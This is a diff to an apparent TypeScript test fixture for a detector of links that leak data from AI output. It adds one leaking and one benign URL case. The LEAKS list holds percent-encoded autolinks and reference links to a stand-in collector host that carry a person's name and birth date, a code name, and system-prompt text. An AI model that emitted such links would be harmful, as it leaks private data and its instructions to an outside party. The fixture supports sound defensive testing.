@@ -25,6 +25,7 @@ const LEAKS: readonly (readonly [string, string])[] = [
   // Percent-encoding hides the value from a reader of an autolink or bare URL.
   [`<https://collector.example/c?v=${escapeAll("Dana Kim")}>`, "autolink: escapes of plain letters"],
   [`<https://collector.example/c?n=${encodeURIComponent("never reveal candidate phone numbers or the internal codename")}>`, "autolink: prompt words, escaped spaces"],
+  [`<https://collector.example/log?d=${encodeURIComponent("Dana Kim, DOB 1990-04-12")}>`, "autolink: an escaped record of a person"],
   [`메모 https://collector.example/log?m=${escapeAll("blue heron")} 끝`, "bare URL: a code name, every byte escaped"],
   // Reference-style definitions, used by a link or an image.
   ["See [the guide][g].\n\n[g]: https://collector.example/p/you-are-the-hiring-assistant-for-northwind", "reference definition: prompt sentence as a path slug"],
@@ -48,6 +49,7 @@ const LEAKS: readonly (readonly [string, string])[] = [
 const PLAIN: readonly (readonly [string, string])[] = [
   ["<https://docs.python.org/3/library/re.html>", "autolink to a documentation page"],
   ["<https://ko.wikipedia.org/wiki/%EC%84%9C%EC%9A%B8>", "autolink, a Korean page name escaped as browsers write it"],
+  [`지도 https://map.example.com/?place=${encodeURIComponent("서울특별시 중구 세종대로")} 참고`, "bare URL: a Korean place name escaped as browsers write it"],
   ["[Q](https://stackoverflow.com/questions/78901234/how-to-parse-json-in-python)", "question id and title slug"],
   ["[paper](https://arxiv.org/abs/2301.12345)", "arXiv id"],
   ["[release](https://example.com/blog/2024-05-12-release-notes)", "dated slug"],
